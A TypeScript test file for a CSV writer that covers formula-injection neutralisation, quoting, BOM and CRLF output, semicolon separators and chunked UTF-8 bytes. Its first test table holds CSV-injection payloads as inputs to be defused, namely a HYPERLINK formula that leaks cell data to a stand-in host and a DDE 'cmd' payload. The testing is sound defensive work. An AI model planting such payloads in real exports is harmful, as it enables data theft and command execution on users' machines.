import { stringify } from 'csv-stringify/sync';
import {
  csvSeparatorFor,
  neutraliseCell,
  writeCsv,
  writeCsvTable,
  writeCsvTableBytes,
  CsvTableBytes,
} from './csv-writer.js';

describe('the CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://x?d="&A1,"Click")', `'=HYPERLINK("http://x?d="&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+212 6 61 24 87 30', "'+212 6 61 24 87 30"],
    ['Awa Traoré', 'Awa Traoré'],
    ['a=1', 'a=1'],
    ['', ''],
  ])('neutralises %j as %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });

  it('leaves numbers the code writes alone, and writes nothing for null', () => {
    expect(neutraliseCell(-3)).toBe('-3');
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(undefined)).toBe('');
  });

  it('starts with a BOM, ends lines with CRLF, quotes only what needs it', () => {
    expect(
      writeCsv([
        ['Name', 'Note'],
        ['Awa', 'a, b "c"'],
      ]),
    ).toBe('\uFEFFName,Note\r\nAwa,"a, b ""c"""\r\n');
  });

  it('quotes a cell typed on several lines, so it stays one cell of one row', () => {
    expect(writeCsv([['Awa', 'wheelchair\nground floor', 'a\rb']])).toBe(
      '\uFEFFAwa,"wheelchair\nground floor","a\rb"\r\n',
    );
  });

  it('writes what csv-stringify wrote for cells without line breaks (random cells)', () => {
    const alphabet = ['a', 'é', ',', ';', '"', ' ', '=', '+', '-', '@', '\t', 'ễ', "'", '1'];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const rows = Array.from({ length: 300 }, () =>
      Array.from({ length: 1 + Math.floor(next() * 6) }, () =>
        Array.from(
          { length: Math.floor(next() * 8) },
          () => alphabet[Math.floor(next() * 14)],
        ).join(''),
      ),
    );
    for (const separator of ['comma', 'semicolon'] as const) {
      const reference = stringify(
        rows.map((row) => row.map(neutraliseCell)),
        {
          delimiter: separator === 'comma' ? ',' : ';',
          record_delimiter: 'windows',
          quoted_string: false,
        },
      );
      expect(writeCsv(rows, { separator })).toBe(`\uFEFF${reference}`);
    }
  });

  it('writes semicolons for French and Spanish Excel, quoting cells that hold one', () => {
    expect(
      writeCsvTable([['Name', (p: string) => p]], ['=1;2', 'Lucía'], { separator: 'semicolon' }),
    ).toBe('\uFEFFName\r\n"\'=1;2"\r\nLucía\r\n');
  });

  it('writes the same file as bytes, whole characters across its chunks', () => {
    // Enough rows for several chunks of text; names of four-byte (emoji), three-byte
    // (Vietnamese, Khmer) and two-byte characters land on every side of a chunk's end.
    const names = ['Nguyễn Thị 🌍', 'សុខា', 'Aïcha, "A"', '=cmd', 'x\ny', '+212 6'];
    const items = Array.from({ length: 3000 }, (_, i) => ({
      name: `${names[i % names.length]} ${i}`,
      n: i % 7 === 0 ? null : i - 50,
    }));
    const columns: Array<[string, (p: (typeof items)[number]) => string | number | null]> = [
      ['Name', (p) => p.name],
      ['N', (p) => p.n],
      ['Note', (p) => (p.n === null ? '' : `n;${p.n}`)],
    ];
    for (const separator of ['comma', 'semicolon'] as const) {
      const text = writeCsvTable(columns, items, { separator });
      const bytes = writeCsvTableBytes(columns, items, { separator });
      expect(bytes.length).toBeGreaterThan(3 * 16_384);
      expect(bytes.equals(Buffer.from(text, 'utf8'))).toBe(true);
      // Added as the batches of a cursor arrive, uneven ones and an empty one included.
      const file = new CsvTableBytes(columns, { separator });
      for (const [from, to] of [
        [0, 1],
        [1, 1000],
        [1000, 1000],
        [1000, 2999],
        [2999, 3000],
      ]) {
        file.add(items.slice(from, to));
      }
      expect(file.bytes().equals(bytes)).toBe(true);
    }
    expect(writeCsvTableBytes(columns, []).toString()).toBe('\uFEFFName,N,Note\r\n');
  });

  it("picks the separator from what was asked, else the reader's language", () => {
    expect(csvSeparatorFor('fr')).toBe('semicolon');
    expect(csvSeparatorFor('es')).toBe('semicolon');
    expect(csvSeparatorFor('en')).toBe('comma');
    expect(csvSeparatorFor('fr', 'comma')).toBe('comma');
    expect(csvSeparatorFor('en', 'semicolon')).toBe('semicolon');
    expect(csvSeparatorFor('en', 'tab')).toBe('comma');
  });
});
